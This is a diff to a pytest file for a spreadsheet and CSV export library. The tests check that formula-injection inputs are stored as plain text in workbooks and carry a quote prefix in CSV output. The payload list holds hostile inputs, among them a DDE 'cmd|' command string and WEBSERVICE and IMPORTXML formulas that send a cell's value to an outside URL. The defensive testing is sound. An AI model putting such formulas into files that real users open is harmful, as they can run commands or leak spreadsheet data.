@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import re
@@ -54,6 +55,17 @@ PAYLOADS = [
         "cmd|' /C calc'!A0",
         "SUM(A1:A2)*9",
         '"a"&"b"',
+        'IMPORTXML("http://example.invalid","//a")',
+        'WEBSERVICE("http://example.invalid/"&A1)',
+        "DDE(1,2,3)",
+        "{1,2}",
+        "A1",
+        "-1",
+        "@SUM(1)",
+        "\n=1",
+        "合計",
+        "5%",
+        "1;2",
     )
 ]
 
@@ -80,18 +92,21 @@ def small_book() -> bytes:
     return save_bytes(book, at=AT)
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_no_text_becomes_a_formula_and_every_text_comes_back_equal(payload: str) -> None:
+def test_no_text_becomes_a_formula_and_every_text_comes_back_equal() -> None:
+    assert len(PAYLOADS) >= 200
     book = new_book("x")
     sheet = add_sheet(book, "x")
-    put(sheet, 1, 1, payload, "text")
-    write_table(sheet, [Column(payload)], [[payload]], top=3)
+    columns = [Column("文", style) for style in ("text", "plain", "code", "count", "share", "date")]
+    write_table(sheet, columns, [[payload] * 6 for payload in PAYLOADS])
     data = save_bytes(book, at=AT)
-    for cell in (opened(data)["x"]["A1"], opened(data)["x"]["A4"]):
-        assert (cell.value, cell.data_type) == (payload, "s")
-        assert cell.quotePrefix
+    read = opened(data)["x"]
+    assert read.max_row == len(PAYLOADS) + 1
+    for payload, row in zip(PAYLOADS, read.iter_rows(min_row=2), strict=True):
+        assert {(cell.value, cell.data_type, cell.quotePrefix) for cell in row} == {
+            (payload, "s", True)
+        }
     assert "<f>" not in part(data, "xl/worksheets/sheet1.xml")
-    assert read_workbook(data)[0].rows[0][0] == payload
+    assert [row[0] for row in read_workbook(data)[0].rows[1:]] == PAYLOADS
 
 
 def test_characters_that_break_sheets_are_left_out() -> None:
@@ -182,11 +197,11 @@ def test_two_sheets_of_one_name_are_refused() -> None:
         add_sheet(book, "同じ")
 
 
-@pytest.mark.parametrize("payload", [p for p in PAYLOADS if not p.startswith("'")])
-def test_csv_disarms_formulas(payload: str) -> None:
-    text = csv_bytes([[payload, -5, "普通"]]).decode("utf-8-sig")
-    assert text.lstrip('"').startswith("'")
-    assert text.endswith(",-5,普通\r\n")
+def test_csv_disarms_formulas() -> None:
+    payloads = [payload for payload in PAYLOADS if not payload.startswith("'")]
+    text = csv_bytes([[payload, -5, "普通"] for payload in payloads]).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows == [["'" + payload, "-5", "普通"] for payload in payloads]
 
 
 def test_csv_begins_with_a_mark_and_cp932_names_what_it_lost() -> None:
